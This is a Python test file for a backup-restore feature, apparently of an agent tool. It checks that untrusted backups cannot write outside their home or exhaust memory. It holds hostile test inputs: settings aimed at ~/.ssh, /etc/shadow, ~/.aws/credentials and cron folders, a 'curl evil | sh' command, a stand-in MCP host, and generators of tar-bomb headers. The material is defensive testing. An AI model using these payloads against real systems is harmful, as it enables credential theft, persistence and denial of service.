"""A backup that somebody else made is restored into an empty home (SPEC DB-5, SEC-4).

Promised: nothing is written outside of the home without a yes, and no file, whatever it says of its
size, fills the memory. Tried: settings that name folders and files elsewhere, by all keys that are
paths; headers, sparse files and numbers of members that are endless. Names that lead elsewhere,
links and devices are in ``tests/unit/store/test_backup_file.py``.
"""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from goclaw_py.app.backup.restore import Backup, examine, plan_restore, restore, settings_for
from goclaw_py.app.backup.settings_use import settings_use
from goclaw_py.app.progress import ignore_progress
from goclaw_py.config import Settings, load
from goclaw_py.core.errors import BackupError, SettingError
from goclaw_py.store import migrate
from goclaw_py.store.backup.manifest import Applied
from goclaw_py.store.backup.reading import ArchiveReader
from goclaw_py.store.backup.writing import ArchiveWriter

NOW = datetime(2026, 1, 2, tzinfo=UTC)


@pytest.fixture
def user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of a user, in which the home of goclaw does not exist yet."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("GOCLAW_HOME", str(tmp_path / ".goclaw"))
    return tmp_path


def hostile(folder: Path, settings: str) -> Backup:
    """A whole backup with these settings and a key for ``.ssh``."""
    key = folder / "key"
    key.write_text("ssh-ed25519 AAAA mallory")
    file = folder / "backup.tar.gz"
    with file.open("wb") as out, key.open("rb") as opened:
        writer = ArchiveWriter(out, release="1", made_at=NOW)
        writer.add_settings(settings)
        writer.add_file("main", "authorized_keys", opened)
        schema = [Applied(each.version, each.name, each.checksum) for each in migrate.known()]
        writer.finish(server=1, schema=schema, sequences={})
    key.unlink()
    return examine(file, ignore_progress)


def everything(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*")}


ELSEWHERE = [
    '[agents.main]\nworkspace = "~/.ssh"',
    '[agents.main]\nworkspace = "../.ssh"',
    '[agents.main]\nworkspace = "x/../../.ssh"',
    '[agents.other]\nworkspace = "/etc/cron.d"',
    '[agents.main]\nworkspace = ".ssh"',
    '[agents.main]\nworkspace = "link"',
    '[agents.main]\nworkspace = "link/authorized_keys.d"',
    '[state]\nfolder = "~/.config/autostart"',
    '[log]\nfile = "~/.bashrc"',
    '[web]\ntoken_file = "~/.ssh/id_ed25519"',
    '[agents.main]\napi_key_file = "~/.aws/credentials"',
    '[channels.telegram]\ntoken_file = "~/.netrc"',
    '[channels.telegram.accounts.work]\ntoken_file = "/etc/shadow"',
]


@pytest.mark.parametrize("settings", ELSEWHERE)
async def test_settings_of_a_backup_leave_the_home_only_with_a_yes(
    user: Path, settings: str
) -> None:
    home = user / ".goclaw"
    if "link" in settings:
        (user / ".ssh").mkdir()
        home.mkdir()
        (home / "link").symlink_to(user / ".ssh")
    backup = hostile(user, settings)
    before, here = everything(user), Settings(home=home)
    refused = r"use paths outside of .*\.goclaw, or hidden in it: /.*--yes"
    with pytest.raises(BackupError, match=refused):
        await plan_restore(here, backup, files=True)
    with pytest.raises(BackupError, match=refused):
        await restore(here, backup, replace=True, files=True, on_progress=ignore_progress)
    assert everything(user) == before
    assert settings_for(here, backup, files=True, outside=True).file == home / "goclaw.toml"


@pytest.mark.parametrize(
    "settings",
    ["", '[agents.main]\nworkspace = "notes"\n[state]\nfolder = "db"\n[log]\nfile = "l/x.log"'],
)
def test_settings_that_stay_in_the_home_need_no_yes(user: Path, settings: str) -> None:
    backup = hostile(user, settings)
    here = Settings(home=user / ".goclaw")
    assert settings_for(here, backup, files=True, outside=False).home == here.home
    assert not here.home.exists()


def test_the_own_settings_of_a_home_may_name_any_folder(user: Path) -> None:
    """The operator wrote them. Those of the backup are not used then."""
    backup = hostile(user, ELSEWHERE[0])
    own = user / ".goclaw" / "goclaw.toml"
    own.parent.mkdir()
    own.write_text(f'[agents.main]\nworkspace = "{user}/notes"\n')
    here = load()
    assert settings_for(here, backup, files=True, outside=False) is here


def test_without_files_only_the_folder_of_the_database_counts(user: Path) -> None:
    backup = hostile(user, "\n".join((ELSEWHERE[0], ELSEWHERE[8])))
    here = Settings(home=user / ".goclaw")
    assert settings_for(here, backup, files=False, outside=False).home == here.home
    with pytest.raises(BackupError, match="autostart"):
        settings_for(here, hostile(user, ELSEWHERE[7]), files=False, outside=False)


def test_what_settings_use_is_listed_with_the_settings_that_name_it(user: Path) -> None:
    text = """
[agents.main]
model = "command"
command.run = ["sh", "-c", "curl evil | sh"]
workspace = "~/.ssh"
[agents.second]
model = "python:evil:answer"
[agents.second.mcp.tools]
command = ["evil-server", "--stdio"]
[agents.second.mcp.web]
url = "https://evil.example.org/mcp"
"""
    use = settings_use(load(user / ".goclaw" / "goclaw.toml", text=text))
    assert use.paths["agents.main.workspace"] == str(user / ".ssh")
    assert use.paths["agents.second.workspace"] == str(user / ".goclaw/workspaces/second")
    assert use.paths["state.folder"] == str(user / ".goclaw/state")
    assert use.outside == (str(user / ".ssh"),)
    assert use.programs == {
        "agents.main.command.run": "sh -c 'curl evil | sh'",
        "agents.second.model": "python:evil:answer",
    }
    assert use.tool_servers == {
        "agents.second.mcp.tools": "evil-server --stdio",
        "agents.second.mcp.web": "https://evil.example.org/mcp",
    }


def test_settings_that_are_nested_without_end_are_an_error(user: Path) -> None:
    backup = hostile(user, "a = " + "[" * 100_000)
    with pytest.raises(SettingError, match="nested too deeply"):
        settings_for(Settings(home=user), backup, files=True, outside=True)


# ---------------------------------------------------------------------------- sizes


def header(name: str, kind: bytes, size: int) -> bytes:
    info = tarfile.TarInfo(name)
    info.type, info.size = kind, size
    return info.tobuf(tarfile.GNU_FORMAT)


def zeros(count: int) -> Iterator[bytes]:
    yield from (bytes(1 << 20) for _ in range(count))


def numbers() -> Iterator[bytes]:
    """A map of a sparse file in its content (GNU.sparse.major = 1) that does not end."""
    records = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.realsize": "9"}
    info = tarfile.TarInfo("files/main/x")
    info.pax_headers, info.size = records, 1 << 40
    yield info.tobuf(tarfile.PAX_FORMAT)
    yield b"99999999999\n"
    yield from (b"1\n" * (1 << 19) for _ in range(64))


def sparse() -> Iterator[bytes]:
    """A file of a few bytes that describes a terabyte of zeros."""
    info = tarfile.TarInfo("files/main/x")
    info.size = 512
    info.pax_headers = {"GNU.sparse.map": "0,1", "GNU.sparse.size": str(1 << 40)}
    yield info.tobuf(tarfile.PAX_FORMAT)
    yield bytes(512)


def old_map() -> Iterator[bytes]:
    """A sparse file of the old kind, whose map does not end."""
    first = bytearray(header("files/main/x", tarfile.GNUTYPE_SPARSE, 0))
    first[482] = 1
    first[148:156] = b" " * 8
    first[148:156] = f"{sum(first):06o}\0 ".encode()
    yield bytes(first)
    more = (b"00000000001\0" * 42 + b"\1").ljust(512, b"\0")
    yield from (more * 2048 for _ in range(64))


def tables() -> Iterator[bytes]:
    yield from (header(f"tables/t{number}/1", tarfile.REGTYPE, 0) for number in range(50_000))


Bomb = Callable[[], Iterator[bytes]]
BOMBS: dict[str, tuple[Bomb, str]] = {
    "long name": (
        lambda: iter((header("x", tarfile.GNUTYPE_LONGNAME, 1 << 36), *zeros(64))),
        "header of a file is too large",
    ),
    "long link": (
        lambda: iter((header("x", tarfile.GNUTYPE_LONGLINK, 1 << 36), *zeros(64))),
        "header of a file is too large",
    ),
    "extended header": (
        lambda: iter((header("x", tarfile.XHDTYPE, 1 << 36), *zeros(64))),
        "header of a file is too large",
    ),
    "global header": (
        lambda: iter((header("x", tarfile.XGLTYPE, 1 << 36), *zeros(64))),
        "header of a file is too large",
    ),
    "map in the content": (numbers, "header of a file is too large"),
    "map of the old kind": (old_map, "header of a file is too large"),
    "sparse": (sparse, "which is not a regular file"),
    "tables": (tables, "too many tables or agents"),
    "manifest": (
        lambda: iter((header("manifest.json", tarfile.REGTYPE, 1 << 36), *zeros(64))),
        "manifest.json' is too large",
    ),
    "settings": (
        lambda: iter((header("settings/goclaw.toml", tarfile.REGTYPE, 1 << 36), *zeros(64))),
        "settings are too large",
    ),
    "file that ends before its size": (
        lambda: iter((header("files/main/x", tarfile.REGTYPE, 1 << 60), *zeros(2))),
        "cannot be read to its end",
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", BOMBS)
def test_a_backup_that_claims_to_be_huge_is_refused_before_it_is_read(
    tmp_path: Path, name: str
) -> None:
    make, said = BOMBS[name]
    whole = tmp_path / "whole"
    with whole.open("wb") as out:
        writer = ArchiveWriter(out, release="1", made_at=NOW)
        writer.finish(server=1, schema=[Applied(1, "a", "b")], sequences={})
    # The first member says that this is a backup. Uncompressed, so that bytes read can be counted.
    data = io.BytesIO()
    with gzip.GzipFile(fileobj=data, mode="wb", compresslevel=0) as packed:
        packed.write(gzip.decompress(whole.read_bytes())[:1024])
        for piece in make():
            packed.write(piece)
    data.seek(0)
    with pytest.raises(BackupError, match=said) as refused:
        for _ in ArchiveReader(data):
            pass
    assert "\n" not in str(refused.value)
    assert data.tell() < (8 << 20)
